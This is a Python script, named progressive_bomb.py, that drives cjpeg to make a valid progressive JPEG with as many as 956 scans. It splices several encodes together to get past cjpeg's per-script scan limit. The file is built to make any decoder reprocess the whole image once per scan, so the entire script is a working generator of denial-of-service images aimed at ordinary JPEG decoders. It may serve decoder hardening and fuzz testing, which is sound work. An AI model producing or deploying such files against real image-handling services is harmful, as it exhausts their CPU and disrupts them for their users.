#!/usr/bin/env python3
"""Writes a valid progressive JPEG of a PPM picture with SCANS scans (at most 956 for a colour
picture): every coefficient of the luminance is sent one coefficient and one bit at a time,
those of the colour differences one coefficient at a time in two steps. Each scan makes a
decoder go over the whole picture once more. cjpeg takes at most 100 scans per script, so the
picture is encoded in parts that all begin with the same DC scan, and the later scans of the
parts are put together behind the first part's. Usage: progressive_bomb.py IN.ppm OUT.jpg SCANS"""
import os
import subprocess
import sys
import tempfile


def series():
    """The scans in series that a script must keep together: each coefficient's first scan
    and its refinements."""
    yield [f"0,1,2: 0 0 {al} {al - 1};" for al in range(10, 0, -1)]
    for k in range(1, 64):
        yield [f"0: {k} {k} 0 10;"] + [f"0: {k} {k} {al} {al - 1};" for al in range(10, 0, -1)]
    for c in (1, 2):
        for k in range(1, 64):
            yield [f"{c}: {k} {k} 0 1;", f"{c}: {k} {k} 1 0;"]


def after_first_scan(data):
    """Offset of the first marker after the entropy-coded data of the first scan."""
    at = data.index(b"\xff\xda")
    at += 2 + int.from_bytes(data[at + 2 : at + 4], "big")
    while True:
        at = data.index(b"\xff", at)
        if data[at + 1] != 0 and not 0xD0 <= data[at + 1] <= 0xD7:
            return at
        at += 2


def main():
    src, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    first, left = "0,1,2: 0 0 0 10;", count - 1
    parts = [[]]
    for s in series():
        s = s[: max(left, 0)]
        left -= len(s)
        if len(parts[-1]) + len(s) > 99:
            parts.append([])
        parts[-1] += s
    out = b""
    with tempfile.TemporaryDirectory() as tmp:
        for n, part in enumerate(parts):
            script, jpeg = os.path.join(tmp, "scans"), os.path.join(tmp, "part.jpg")
            with open(script, "w") as f:
                f.write("\n".join([first] + part) + "\n")
            subprocess.run(["cjpeg", "-quality", "95", "-scans", script, "-outfile", jpeg, src],
                           check=True)
            data = open(jpeg, "rb").read()
            out = data[:-2] if n == 0 else out + data[after_first_scan(data) : -2]
    open(dst, "wb").write(out + b"\xff\xd9")


if __name__ == "__main__":
    main()
